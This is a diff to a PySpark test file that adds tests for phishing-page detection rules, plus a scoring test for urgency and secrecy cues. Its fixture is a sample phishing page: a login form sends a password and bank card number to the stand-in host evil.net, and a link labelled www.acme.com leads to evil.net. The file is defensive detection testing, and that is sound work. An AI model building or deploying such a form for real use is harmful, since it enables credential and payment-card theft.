@@ -5,7 +5,7 @@ from pyspark.sql import functions as F
 
 from larkspan.functions import text as T
 from larkspan.functions import urls as U
-from larkspan.operators import evaluation, rules, scoring, semantic
+from larkspan.operators import dom, evaluation, rules, scoring, semantic
 from larkspan.plans import detect
 from larkspan.plans import profile as P
 from larkspan.sources import readers
@@ -139,3 +139,26 @@ def test_sources(spark, tmp_path):
     assert [(r["id"], r["n"]) for r in readers.duplicate_ids(rows, "id").collect()] == [("a", 2)]
     assert one(spark, readers.image_kind(F.unhex(F.lit("89504E470D0A1A0A00")))) == "png"
     assert one(spark, readers.decoded(F.unhex(F.lit("EFBBBF41")))) == "A"
+
+
+FORM = """<title>Acme mail</title><form action="//evil.net/in"><label for=p>Acme key</label><input id=p type=password>
+<label>Bank <input name=bank_card></label><input name=email></form><a href="https://evil.net/x">www.acme.com</a><a href="https://www.acme.com/">acme.com</a>"""
+
+
+def test_form_rules(spark):
+    rows = spark.createDataFrame([(FORM, "https://other.org/a"), ("<input type=password>", "https://acme.com/"), (None, None)], "h string, u string")
+    got = [[(e["rule_id"], e["severity"], e["subject"]) for e in r["e"]] for r in rows.select(dom.page_form_evidence(F.col("h"), F.coalesce("u", F.lit("")), PROFILE).alias("e")).collect()]
+    assert got[0] == [
+        ("HTML_PASSWORD_INPUT", "low", "form:0"),
+        ("PASSWORD_FORM_UNTRUSTED_TARGET", "high", "form:0"),
+        ("FORM_COLLECTS_SENSITIVE_INFO", "medium", "form:0"),
+        ("FORM_COLLECTS_SECRET", "high", "form:0"),
+        ("LINK_TEXT_HREF_MISMATCH", "high", "page:0"),
+        ("PORTAL_BRAND_EXTERNAL_DOMAIN", "high", "page:0"),
+    ]
+    assert got[1:] == [[("HTML_PASSWORD_INPUT", "low", "page:0")], []]
+
+
+def test_composite(spark):
+    assert one(spark, semantic.composite(F.array(F.lit("urgency"), F.lit("secrecy")))) == 0
+    assert one(spark, semantic.composite(F.array(F.lit("urgency"), F.lit("secrecy"), F.lit("info_request")))) == 35
